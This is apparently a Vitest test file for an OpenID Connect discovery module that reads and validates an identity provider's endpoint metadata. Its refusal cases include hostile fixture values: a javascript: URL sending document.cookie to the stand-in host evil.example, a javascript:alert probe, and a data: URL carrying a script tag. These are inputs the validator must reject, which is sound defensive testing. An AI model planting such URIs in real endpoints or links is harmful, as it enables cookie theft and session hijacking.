import { describe, expect, it } from "vitest";
import { discover, discoveryUrl, readMetadata } from "./discovery.ts";

const ISSUER = "https://idp.example.gov.uk/realms/council";
const document = {
  issuer: ISSUER,
  authorization_endpoint: `${ISSUER}/auth`,
  token_endpoint: `${ISSUER}/token`,
  end_session_endpoint: `${ISSUER}/logout`,
  revocation_endpoint: `${ISSUER}/revoke`,
  code_challenge_methods_supported: ["plain", "S256"],
};

describe("the provider's discovery document", () => {
  it("is at the issuer's well-known address", () => {
    expect(discoveryUrl(`${ISSUER}/`)).toBe(`${ISSUER}/.well-known/openid-configuration`);
  });

  it("gives the endpoints sign-in uses", () => {
    expect(readMetadata(ISSUER, document)).toEqual({
      issuer: ISSUER,
      authorizationEndpoint: `${ISSUER}/auth`,
      tokenEndpoint: `${ISSUER}/token`,
      endSessionEndpoint: `${ISSUER}/logout`,
      revocationEndpoint: `${ISSUER}/revoke`,
    });
    const { end_session_endpoint: _, revocation_endpoint: __, ...bare } = document;
    expect(readMetadata(ISSUER, bare)).not.toHaveProperty("endSessionEndpoint");
  });

  it.each([
    [{ issuer: "https://other.example" }, /names the issuer "https:\/\/other.example"/],
    [{ token_endpoint: undefined }, /lacks authorization_endpoint or token_endpoint/],
    [{ token_endpoint: "not a url" }, /token_endpoint is not a URL/],
    [{ code_challenge_methods_supported: ["plain"] }, /S256/],
    [
      { token_endpoint: "https://tokens.example/token" },
      /token_endpoint is on https:\/\/tokens.example/,
    ],
    [
      { authorization_endpoint: "javascript:alert(document.domain)//" },
      /authorization_endpoint is javascript: on no host; it must be https/,
    ],
    [
      { end_session_endpoint: "javascript:fetch('//evil.example/'+document.cookie)" },
      /end_session_endpoint is javascript:/,
    ],
    [
      { end_session_endpoint: "data:text/html,<script>x</script>" },
      /end_session_endpoint is data:/,
    ],
    [
      { authorization_endpoint: "http://idp.example.gov.uk/auth" },
      /authorization_endpoint is http: on idp.example.gov.uk/,
    ],
  ])("is refused when %o", (change, reason) => {
    expect(() => readMetadata(ISSUER, { ...document, ...change })).toThrow(reason);
  });

  it("allows http on a loopback host, for a provider run beside the tests", () => {
    const local = "http://127.0.0.1:4455";
    const metadata = readMetadata(local, {
      issuer: local,
      authorization_endpoint: "http://localhost:4455/auth",
      token_endpoint: `${local}/token`,
      end_session_endpoint: "http://[::1]:4455/logout",
    });
    expect(metadata.endSessionEndpoint).toBe("http://[::1]:4455/logout");
  });

  it("says which address could not be read", async () => {
    const down = (async () => {
      throw new TypeError("Failed to fetch");
    }) as typeof fetch;
    await expect(discover(ISSUER, down)).rejects.toThrow(
      `Could not reach the identity provider at ${ISSUER}/.well-known/openid-configuration: Failed to fetch`,
    );
    const missing = (async () => new Response("", { status: 404 })) as typeof fetch;
    await expect(discover(ISSUER, missing)).rejects.toThrow(/answered HTTP 404/);
    const found = (async () => Response.json(document)) as typeof fetch;
    await expect(discover(ISSUER, found)).resolves.toMatchObject({
      tokenEndpoint: `${ISSUER}/token`,
    });
  });
});
